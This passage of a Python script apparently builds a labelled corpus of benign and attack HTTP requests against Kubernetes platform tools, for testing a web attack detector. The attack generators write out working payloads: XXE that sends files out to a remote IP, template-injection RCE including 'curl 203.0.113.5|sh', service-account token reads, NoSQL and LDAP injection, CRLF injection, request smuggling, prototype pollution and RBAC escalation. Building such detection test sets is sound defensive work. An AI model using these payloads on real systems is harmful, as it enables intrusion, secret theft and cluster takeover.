    body, ct = multipart([("file", "junit.xml", "text/xml", xxe3)])
    A("xxe", "junit-upload", "POST", "/api/v1/ci/launch/import", "reportportal.ci.svc.cluster.local:8080", attacker_api(), body, ct)
    body, ct = multipart([("avatar", "me.svg", "image/svg+xml", xxe4)])
    A("xxe", "svg-upload", "POST", "/api/user/avatar", host_for("grafana"), attacker_browser(), body, ct)
    A("xxe", "billion-laughs", "POST", "/api/v1/pipelines/import", "pipelines.platform.svc.cluster.local:8080", attacker_api(), xxe5, "text/xml")
    A("xxe", "soap", "POST", "/services/ProvisioningService", "legacy-admin.platform.svc:8080", attacker_api(auth=False) + [("SOAPAction", "\"urn:provision\"")], xxe6, "text/xml; charset=utf-8")
    A("xxe", "maven-settings", "PUT", "/api/v1/configs/settings.xml", "pipelines.platform.svc.cluster.local:8080", attacker_api(),
      '<?xml version="1.0"?><!DOCTYPE settings [<!ENTITY % p SYSTEM "file:///root/.m2/settings-security.xml"><!ENTITY % e "<!ENTITY exfil SYSTEM \'http://203.0.113.12/?x=%p;\'>"> %e;]><settings>&exfil;</settings>', "application/xml")


# --------------------------------------------------------------------------- ssti

def gen_ssti():
    jinja = [
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('cat /var/run/secrets/kubernetes.io/serviceaccount/token').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate() }}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('curl 203.0.113.5|sh').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{% endif %}{% endfor %}",
        "{{ lipsum.__globals__['os'].popen('env').read() }}",
        "{{ config.__class__.__init__.__globals__['os'].environ }}",
    ]
    # alert templates forwarded to a python (jinja) alert router
    for i, pl in enumerate(jinja[:4]):
        rule = {"title": "x", "ruleGroup": "g", "folderUID": rstr(14), "condition": "A", "data": [], "annotations": {"summary": "CPU high " + pl}}
        A("ssti", "alert-template", "POST", "/api/v1/provisioning/alert-rules", host_for("grafana"), attacker_browser(), dumps(rule), "application/json")
    for pl in jinja[4:]:
        alert = am_alert()
        alert["annotations"]["description"] = pl
        A("ssti", "alertmanager-annotation", "POST", "/api/v2/alerts", host_for("alertmanager"), attacker_api(auth=False), dumps([alert]), "application/json")
    # Backstage scaffolder nunjucks sandbox escapes through parameter values
    nun = [
        "${{ range.constructor(\"return process.mainModule.require('child_process').execSync('id').toString()\")() }}",
        "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('curl 203.0.113.5/s|sh')\")() }}",
        "${{ ''.constructor.constructor('return this.process.env')() }}",
        "{{ cycler.constructor.constructor(\"return process\")().mainModule.require(\"fs\").readFileSync(\"/app/app-config.production.yaml\",\"utf8\") }}",
    ]
    for pl in nun:
        A("ssti", "backstage-nunjucks", "POST", "/api/scaffolder/v2/tasks", host_for("backstage"), attacker_browser(),
          dumps({"templateRef": "template:default/go-http-service", "values": {"name": "svc-x", "owner": "group:default/x", "description": pl, "repoUrl": "github.com?repo=svc-x&owner=acme"}}), "application/json")
    # Go templates with file/exec helpers (gomplate / helm tpl values)
    for pl in ["{{ file.Read \"/etc/passwd\" }}", "{{ .Files.Get \"../../../../var/run/secrets/kubernetes.io/serviceaccount/token\" }}", "{{ (datasource \"x\" \"file:///etc/shadow\") }}"]:
        app = argo_app()
        app["spec"]["source"] = {"repoURL": "https://github.com/acme/deploy.git", "path": "charts/x", "helm": {"values": "podAnnotations:\n  leak: '%s'\n" % pl}}
        A("ssti", "helm-tpl", "POST", "/api/v1/applications", host_for("argocd"), attacker_browser(), dumps(app), "application/json")
    # Freemarker in Keycloak realm fields (Keycloak renders themes with Freemarker)
    A("ssti", "freemarker", "PUT", "/admin/realms/platform", host_for("keycloak"), attacker_browser(),
      dumps({"displayNameHtml": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"}), "application/json")
    A("ssti", "freemarker", "PUT", "/admin/realms/platform/users/" + ruuid(), host_for("keycloak"), attacker_browser(),
      dumps({"firstName": "${\"freemarker.template.utility.Execute\"?new()(\"cat /opt/keycloak/conf/keycloak.conf\")}"}), "application/json")
    # Thymeleaf / SpEL view-name injection, Velocity, Twig
    A("ssti", "thymeleaf", "GET", "/admin/" + enc("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"), "ledger-svc.payments.svc:8080", attacker_api())
    A("ssti", "velocity", "POST", "/api/v1/notifications/preview", "notifications.platform.svc:8080", attacker_api(),
      dumps({"template": "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\").getRuntime())$rt.exec(\"id\")"}), "application/json")
    A("ssti", "twig", "POST", "/billing/preview", "billing-admin.payments.svc", attacker_api(auth=False),
      form([("footer", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")]), "application/x-www-form-urlencoded")


# --------------------------------------------------------------------------- nosqli

def gen_nosqli():
    h = "portal-api.platform.svc.cluster.local:3000"
    A("nosqli", "login", "POST", "/api/auth/login", h, attacker_api(auth=False), dumps({"username": {"$ne": None}, "password": {"$ne": None}}), "application/json")
    A("nosqli", "login", "POST", "/api/auth/login", h, attacker_api(auth=False), form([("username[$ne]", "admin"), ("password[$gt]", "")]), "application/x-www-form-urlencoded")
    A("nosqli", "login", "POST", "/api/auth/login", h, attacker_api(auth=False), dumps({"username": "admin", "password": {"$regex": "^a.*"}}), "application/json")
    A("nosqli", "query-param", "GET", "/api/feedback?" + "owner%5B%24regex%5D=.*&status%5B%24nin%5D%5B%5D=closed", host_for("backstage"), attacker_api())
    A("nosqli", "query-param", "GET", "/api/scorecards/entities?filter[owner][$where]=" + enc("function(){sleep(5000);return true;}"), host_for("backstage"), attacker_api())
    A("nosqli", "mongo-datasource", "POST", "/api/ds/query", host_for("grafana"), attacker_browser(),
      dumps({"queries": [{"refId": "A", "datasource": {"type": "meln5674-mongodb-community", "uid": "mongo"}, "collection": "users", "queryText": "[{\"$match\": {\"$where\": \"sleep(5000) || this.isAdmin == true\"}}]"}], "from": "now-1h", "to": "now"}), "application/json")
    A("nosqli", "mongo-datasource", "POST", "/api/ds/query", host_for("grafana"), attacker_browser(),
      dumps({"queries": [{"refId": "A", "datasource": {"type": "meln5674-mongodb-community", "uid": "mongo"}, "collection": "sessions",
                          "queryText": "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"uid\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password\": 1, \"u.apiKey\": 1}}]"}]}), "application/json")
    A("nosqli", "json-body", "POST", "/api/feedback/search", host_for("backstage"), attacker_api(), dumps({"entityRef": {"$gt": ""}, "$or": [{"a": 1}, {"$where": "this.token.length > 0"}]}), "application/json")
    A("nosqli", "json-body", "POST", "/api/v1/tenants/lookup", h, attacker_api(), dumps({"tenant": {"$expr": {"$function": {"body": "function() { return sleep(3000) || true }", "args": [], "lang": "js"}}}}), "application/json")
    A("nosqli", "query-param", "GET", "/api/v1/users?" + "email%5B%24exists%5D=true&role%5B%24ne%5D=viewer&%24where=1", h, attacker_api())


# --------------------------------------------------------------------------- ldapi

def gen_ldapi():
    kc = host_for("keycloak")
    searches = ["*)(uid=*))(|(uid=*", "admin)(|(objectClass=*)", "*)(userPassword=*)", "%2A%29%28%7C%28cn%3D%2A", "jdoe)(|(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=acme,DC=io)",
                "*))%00"]
    for s in searches:
        q = "search=" + (s if "%" in s else enc(s))
        A("ldapi", "keycloak-user-search", "GET", "/admin/realms/platform/users?briefRepresentation=true&first=0&max=20&" + q, kc, attacker_browser())
    for u in ["*)(&", "admin)(!(&(1=0", "*)(|(objectClass=*"]:
        A("ldapi", "keycloak-login", "POST", "/realms/platform/login-actions/authenticate?session_code=%s&execution=%s&client_id=grafana&tab_id=%s" % (rstr(43), ruuid(), rstr(11)), kc, attacker_browser(),
          form([("username", u), ("password", "x"), ("credentialId", "")]), "application/x-www-form-urlencoded")
    A("ldapi", "keycloak-ldap-test", "POST", "/admin/realms/platform/testLDAPConnection", kc, attacker_browser(),
      dumps({"action": "testAuthentication", "connectionUrl": "ldaps://dc01.corp.acme.io:636", "bindDn": "*)(objectClass=*))(|(cn=*", "bindCredential": "x", "authType": "simple"}), "application/json")
    A("ldapi", "harbor-ldap-search", "GET", "/api/v2.0/ldap/users/search?username=" + enc("*)(uid=*))(|(uid=*"), host_for("harbor"), attacker_browser())
    A("ldapi", "harbor-ldap-search", "GET", "/api/v2.0/ldap/groups/search?groupname=" + enc("admins)(|(cn=*"), host_for("harbor"), attacker_browser())
    A("ldapi", "rancher-principals", "POST", "/v3/principals?action=search", host_for("rancher"), attacker_browser(), dumps({"name": "*)(objectClass=*", "principalType": None}), "application/json")
    A("ldapi", "vault-ldap-login", "POST", "/v1/auth/ldap/login/" + enc("*)(uid=*"), host_for("vault"), [("User-Agent", "curl/8.7.1")], dumps({"password": "x"}), "application/json")


# --------------------------------------------------------------------------- crlf

def gen_crlf():
    kc = host_for("keycloak")
    items = [
        ("keycloak", "/realms/platform/protocol/openid-connect/auth?client_id=grafana&response_type=code&redirect_uri=https%3A%2F%2Fgrafana.acme.io%2Flogin%0d%0aSet-Cookie:%20KEYCLOAK_SESSION=evil"),
        ("argocd", "/auth/login?return_url=https%3A%2F%2Fargocd.acme.io%2Fapplications%0D%0ALocation%3A%20https%3A%2F%2Fevil.example"),
        ("grafana", "/login?redirect=%2F%0d%0aX-Injected:%20yes"),
        ("grafana", "/%0d%0aSet-Cookie:grafana_session=attacker"),
        ("backstage", "/api/auth/github/start?env=development&scope=read:user%0d%0aSet-Cookie:%20backstage-auth=x"),
        ("harbor", "/c/oidc/login?redirect_url=%2Fharbor%2Fprojects%E5%98%8A%E5%98%8DSet-Cookie:sid=evil"),
        ("argocd", "/api/dex/auth?state=abc%0aLocation:%20https://evil.example/&client_id=argo-cd"),
        ("workflows", "/oauth2/callback?code=x&state=%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        ("kiali", "/kiali/api/auth/callback?return=%250d%250aSet-Cookie:%20kiali-token=x"),
        ("rancher", "/v1-saml/adfs/saml/acs?finalRedirectUrl=%2Fdashboard%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK"),
    ]
    for tool, uri in items:
        A("crlf", tool + "-redirect", "GET", uri, host_for(tool), attacker_browser())
    # header values configured through APIs (forwarded by the app to upstreams)
    A("crlf", "grafana-webhook-header", "POST", "/api/v1/provisioning/contact-points", host_for("grafana"), attacker_browser(),
      dumps({"name": "h", "type": "webhook", "settings": {"url": "https://hooks.acme.io/x", "httpHeaders": {"X-Tenant": "acme\r\nX-Forwarded-For: 127.0.0.1\r\nHost: vault.vault.svc"}}}), "application/json")
    A("crlf", "datasource-header", "POST", "/api/datasources", host_for("grafana"), attacker_browser(),
      dumps({"name": "p", "type": "prometheus", "url": "http://prometheus-operated.monitoring.svc:9090", "jsonData": {"httpHeaderName1": "X-Scope-OrgID\r\nAuthorization"}, "secureJsonData": {"httpHeaderValue1": "team-atlas\r\n\r\nGET /api/v1/admin/tsdb/snapshot HTTP/1.1"}}), "application/json")
    A("crlf", "query-header", "GET", "/api/v1/query?query=up&x=%0d%0aX-Scope-OrgID:%20anonymous", host_for("prometheus"), attacker_api(auth=False))
    A("crlf", "loki-tenant", "GET", "/loki/api/v1/labels?tenant=team-atlas%0D%0AX-Scope-OrgID%3A%20team-orion", host_for("loki"), attacker_api(auth=False))


# --------------------------------------------------------------------------- protocol

def gen_protocol():
    crlf = "\r\n"
    # CL.TE
    body = "0\r\n\r\nGET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\nHost: kubernetes.default.svc\r\nX: x"
    C.add_raw("protocol", "smuggling-cl-te", "POST /api/v1/query HTTP/1.1\r\nHost: prometheus.acme.io\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (len(body), body))
    # TE.CL
    inner = "GET /admin/realms/master/users HTTP/1.1\r\nHost: keycloak.identity.svc.cluster.local:8080\r\nContent-Length: 15\r\n\r\nx=1"
    chunk = "%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
    C.add_raw("protocol", "smuggling-te-cl", "POST /realms/platform/protocol/openid-connect/token HTTP/1.1\r\nHost: sso.acme.io\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk)
    # TE obfuscations
    for te in ["Transfer-Encoding : chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding:\tchunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"]:
        sm = "0\r\n\r\nPOST /api/admin/users HTTP/1.1\r\nHost: grafana.acme.io\r\nContent-Length: 10\r\n\r\nx="
        C.add_raw("protocol", "smuggling-te-obfuscation", "POST /api/ds/query HTTP/1.1\r\nHost: grafana.acme.io\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s\r\n\r\n%s" % (len(sm), te, sm))
    # duplicate / conflicting Content-Length
    dup = "{}GET /api/v1/settings HTTP/1.1\r\nHost: argocd-server.argocd.svc\r\n\r\n"
    C.add_raw("protocol", "duplicate-content-length", "POST /api/v1/applications HTTP/1.1\r\nHost: argocd.acme.io\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: %d\r\n\r\n%s" % (len(dup), dup))
    # obs-fold hiding Transfer-Encoding
    C.add_raw("protocol", "obs-fold", "POST /loki/api/v1/push HTTP/1.1\r\nHost: logs.acme.io\r\nContent-Type: application/json\r\nX-Scope-OrgID: team-atlas\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n")
    # invalid chunk size / bare LF smuggle
    C.add_raw("protocol", "bad-chunk", "POST /api/v2/alerts HTTP/1.1\r\nHost: alertmanager.acme.io\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n[]\r\n0x0\r\n\r\n")
    C.add_raw("protocol", "bare-lf", "GET /api/health HTTP/1.1\nHost: grafana.acme.io\nContent-Length: 50\nTransfer-Encoding: chunked\n\n0\n\nGET /api/admin/settings HTTP/1.1\nHost: grafana.acme.io\n\n")
    # h2c upgrade smuggling through the sidecar
    A("protocol", "h2c-upgrade", "GET", "/api/v1/namespaces/kube-system/secrets", host_for("headlamp"),
      [("User-Agent", "h2csmuggler/1.0"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"), ("Connection", "Upgrade, HTTP2-Settings")])
    # method override to turn a read into a delete
    A("protocol", "method-override", "GET", "/api/v1/namespaces/payments/pods/cart-api-7d9c6b5f4-x2k9p", host_for("headlamp"), attacker_api() + [("X-HTTP-Method-Override", "DELETE")])
    A("protocol", "method-override", "POST", "/api/dashboards/uid/%s?_method=DELETE" % rstr(9), host_for("grafana"), attacker_browser() + [("X-HTTP-Method", "DELETE"), ("X-Method-Override", "DELETE")], "", "application/json")
    # absolute-form target to an internal host, and duplicate Host
    A("protocol", "absolute-uri", "GET", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", host_for("backstage"), attacker_api(auth=False))
    C.add_raw("protocol", "duplicate-host", "GET /api/v1/secrets HTTP/1.1\r\nHost: backstage.acme.io\r\nHost: kubernetes.default.svc\r\nUser-Agent: curl/8.7.1\r\nAccept: */*\r\n\r\n")


# --------------------------------------------------------------------------- scanner

def gen_scanner():
    uas = [
        ("sqlmap/1.8.4#stable (https://sqlmap.org)", "/api/search/query?term=1", "backstage"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "/", "grafana"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/api/health", "grafana"),
        ("Mozilla/5.0 zgrab/0.x", "/", "argocd"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "/", "harbor"),
        ("gobuster/3.6", "/api/v1/xyzzy", "workflows"),
        ("Fuzz Faster U Fool v2.1.0-dev", "/FUZZ", "backstage"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/nmaplowercheck1714552", "keycloak"),
        ("feroxbuster/2.10.3", "/admin", "vault"),
        ("Wfuzz/3.1.0", "/api/v2.0/projects?page=FUZZ", "harbor"),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "/kiali/", "kiali"),
    ]
    for ua, path, tool in uas:
        A("scanner", "scanner-ua", "GET", path, host_for(tool), [("User-Agent", ua), ("Accept", "*/*"), ("X-Forwarded-For", ext_ip())])
    probes = [
        ("/actuator/env", "ledger-svc.payments.svc:8080"),
        ("/actuator/heapdump", "gateway.acme.io"),
        ("/debug/pprof/goroutine?debug=2", "argocd.acme.io"),
        ("/debug/pprof/heap", "grafana.acme.io"),
        ("/api/v1/namespaces/kube-system/secrets", "k8s.platform.example.com"),
        ("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "api.prod-eu1.k8s.acme.io:6443"),
        ("/.env", "backstage.acme.io"),
        ("/.git/config", "portal.platform.example.com"),
        ("/v2/keys/?recursive=true", "etcd.acme.io:2379"),
        ("/runningpods/", "node-7.acme.io:10250"),
        ("/jolokia/read/java.lang:type=Runtime", "keycloak.acme.io"),
        ("/.aws/credentials", "opencost.acme.io"),
    ]
    for path, host in probes:
        ua = pick(["curl/7.88.1", "python-requests/2.28.1", "Go-http-client/1.1", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36", "kube-hunter"])
        h = [("User-Agent", ua), ("Accept", "*/*"), ("X-Forwarded-For", ext_ip())]
        if chance(0.3):
            h.append(("Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"))
        A("scanner", "probe", "GET", path, host, h)


# --------------------------------------------------------------------------- generic

def gen_generic():
    bs = host_for("backstage")
    # prototype pollution (Node.js backends: Backstage and friends)
    A("generic", "prototype-pollution", "POST", "/api/scaffolder/v2/tasks", bs, attacker_browser(),
      '{"templateRef":"template:default/go-http-service","values":{"name":"svc-x","__proto__":{"isAdmin":true,"allowedOwners":["*"]}}}', "application/json")
    A("generic", "prototype-pollution", "GET", "/api/catalog/entities?__proto__%5Bpolluted%5D=1&filter=kind%3Dcomponent", bs, attacker_api())
    A("generic", "prototype-pollution", "GET", "/api/search/query?term=x&constructor%5Bprototype%5D%5Badmin%5D=true", bs, attacker_api())
    A("generic", "prototype-pollution", "POST", "/api/feedback/responses", bs, attacker_browser(),
      dumps({"entityRef": "component:default/cart-api", "constructor": {"prototype": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}}}), "application/json")
    A("generic", "prototype-pollution", "PUT", "/api/user-settings/buckets/default/keys/theme", bs, attacker_browser(), '{"value":"dark","__proto__":{"toString":"polluted"},"a":{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}', "application/json")
    # mass assignment
    A("generic", "mass-assignment", "PUT", "/api/user", host_for("grafana"), attacker_browser(), dumps({"name": "viewer", "email": "viewer@acme.io", "login": "viewer", "isGrafanaAdmin": True, "orgRole": "Admin", "role": "Admin"}), "application/json")
    A("generic", "mass-assignment", "POST", "/api/users", host_for("harbor"), attacker_api(auth=False), dumps({"username": "newbie", "email": "n@example.com", "realname": "n", "password": "Passw0rd!23", "has_admin_role": True, "sysadmin_flag": True}), "application/json")
    A("generic", "mass-assignment", "POST", "/realms/platform/account/", host_for("keycloak"), attacker_browser(), dumps({"username": "jdoe", "email": "jdoe@acme.io", "realmRoles": ["admin", "realm-admin"], "attributes": {"role": ["cluster-admin"]}}), "application/json")
    A("generic", "mass-assignment", "PUT", "/v3/users/u-%s" % rstr(5, LOWER_ALNUM), host_for("rancher"), attacker_browser(), dumps({"description": "me", "mustChangePassword": False, "globalRoleBindings": [{"globalRoleId": "admin"}], "principalIds": ["local://user-admin"]}), "application/json")
    A("generic", "rbac-escalation", "POST", "/api/namespaces/request", bs, attacker_browser(),
      dumps({"namespace": "team-x", "rbac": [{"roleRef": {"kind": "ClusterRole", "name": "cluster-admin", "apiGroup": "rbac.authorization.k8s.io"}, "subjects": [{"kind": "Group", "name": "system:unauthenticated"}]}]}), "application/json")
    A("generic", "rbac-escalation", "POST", "/api/kubernetes/proxy/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", bs, attacker_browser() + [("Backstage-Kubernetes-Cluster", "prod-eu1")],
      dumps({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "x"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "system:anonymous"}]}), "application/json")
    A("generic", "rbac-escalation", "PATCH", "/api/v1/account/viewer", host_for("argocd"), attacker_browser(), dumps({"capabilities": ["login", "apiKey"], "groups": ["role:admin"], "policy": "g, viewer, role:admin\np, role:viewer, *, *, */*, allow"}), "application/json")
    # path normalisation / routing bypasses
    for tool, uri in [("grafana", "/api/admin/..;/users"), ("backstage", "/actuator;/env"), ("grafana", "//api//admin/settings"), ("headlamp", "/api/v1/namespaces/kube-system/secrets/%2e%2e/"),
                      ("keycloak", "/realms/platform/..%2f..%2fadmin/realms/master/users"), ("argocd", "/%2e/api/v1/settings/../../api/v1/account"), ("harbor", "/api/v2.0/users/current/..%252f..%252fusers")]:
        A("generic", "path-normalization", "GET", uri, host_for(tool), attacker_api(auth=False))
    A("generic", "open-redirect", "GET", "/login?redirect=%2F%2Fevil.example%2F%2E%2E", host_for("grafana"), attacker_browser())


# ===========================================================================
# main: generate, write, validate
# ===========================================================================

BENIGN_PLAN = [
    (gen_backstage, 36), (gen_argocd, 28), (gen_workflows, 18),
    (gen_grafana_dashboards, 18), (gen_grafana_datasources, 12), (gen_grafana_dsquery, 22),
    (gen_grafana_alerting, 15), (gen_grafana_annotations, 10), (gen_grafana_misc, 6),
    (gen_prometheus, 28), (gen_alertmanager, 16), (gen_harbor, 16), (gen_keycloak, 20),
    (gen_vault, 22), (gen_rancher, 8), (gen_kiali, 8), (gen_tracing, 12), (gen_tekton, 14),
    (gen_flux, 12), (gen_acme, 8), (gen_admission, 30), (gen_opa, 14), (gen_kubeapi, 42),
    (gen_loki, 10), (gen_opencost, 6), (gen_velero_crossplane, 12), (gen_multipart, 6),
]

ATTACK_PLAN = [gen_sqli, gen_xss, gen_lfi, gen_rfi, gen_rce, gen_php, gen_java, gen_ssrf, gen_xxe,
               gen_ssti, gen_nosqli, gen_ldapi, gen_crlf, gen_protocol, gen_scanner, gen_generic]

URI_BAD_CHARS = set(' "<>\\^`{}|')


def validate(records, expect):
    errors = []
    ids = set()
    for r in records:
        rid = r.get("id")
        if rid in ids:
            errors.append("duplicate id " + rid)
        ids.add(rid)
        if r.get("set") != SET or r.get("expect") != expect:
            errors.append("bad set/expect " + rid)
        if "raw_b64" in r:
            base64.b64decode(r["raw_b64"], validate=True)
            continue
        for f in ("id", "set", "category", "expect", "method", "uri", "version", "headers"):
            if f not in r:
                errors.append("missing %s in %s" % (f, rid))
        if r["version"] != "HTTP/1.1":
            errors.append("version " + rid)
        uri = r["uri"]
        if not uri or any(ord(ch) < 0x21 or ord(ch) > 0x7e for ch in uri):
            errors.append("uri has non-printable/non-ascii chars: " + rid)
        bad = URI_BAD_CHARS.intersection(uri)
        if bad:
            errors.append("uri has %r: %s %s" % ("".join(sorted(bad)), rid, uri[:120]))
        names = [h[0].lower() for h in r["headers"]]
        if names[0] != "host":
            errors.append("first header not Host " + rid)
        for n, v in r["headers"]:
            if "\r" in v or "\n" in v or "\r" in n or "\n" in n:
                errors.append("CR/LF in header %s of %s" % (n, rid))
        if "body" in r:
            cl = [h[1] for h in r["headers"] if h[0].lower() == "content-length"]
            if len(cl) != 1 or int(cl[0]) != len(r["body"].encode("utf-8")):
                errors.append("content-length mismatch " + rid)
            if "content-type" not in names:
                errors.append("body without content-type " + rid)
        if rid.startswith("platform/dev-content/") != (r["category"] == "dev-content"):
            errors.append("dev-content id/category mismatch " + rid)
        prefix = "platform/%s/" % r["category"]
        if not rid.startswith(prefix):
            errors.append("id prefix mismatch " + rid)
    return errors


def main():
    for fn, n in BENIGN_PLAN:
        fn(n)
    gen_dev_content()
    for fn in ATTACK_PLAN:
        fn()

    errors = validate(C.benign, "pass") + validate(C.attacks, "detect")
    all_ids = [r["id"] for r in C.benign + C.attacks]
    if len(all_ids) != len(set(all_ids)):
        errors.append("ids not unique across files")
    dev = sum(1 for r in C.benign if r["category"] == "dev-content")
    if dev != 50:
        errors.append("dev-content count is %d, expected 50" % dev)
    if errors:
        for e in errors[:60]:
            print("ERROR:", e, file=sys.stderr)
        print("%d validation errors" % len(errors), file=sys.stderr)
        sys.exit(1)

    os.makedirs(OUT_DIR, exist_ok=True)
    for path, recs in ((BENIGN_PATH, C.benign), (ATTACK_PATH, C.attacks)):
        with open(path, "w", encoding="utf-8") as f:
            for r in recs:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")

    cats = Counter(r["category"] for r in C.benign + C.attacks)
    print("wrote %d benign (%d dev-content) -> %s" % (len(C.benign), dev, BENIGN_PATH))
    print("wrote %d attacks -> %s" % (len(C.attacks), ATTACK_PATH))
    for c, n in sorted(cats.items(), key=lambda x: (-x[1], x[0])):
        print("  %-12s %d" % (c, n))


if __name__ == "__main__":
    main()
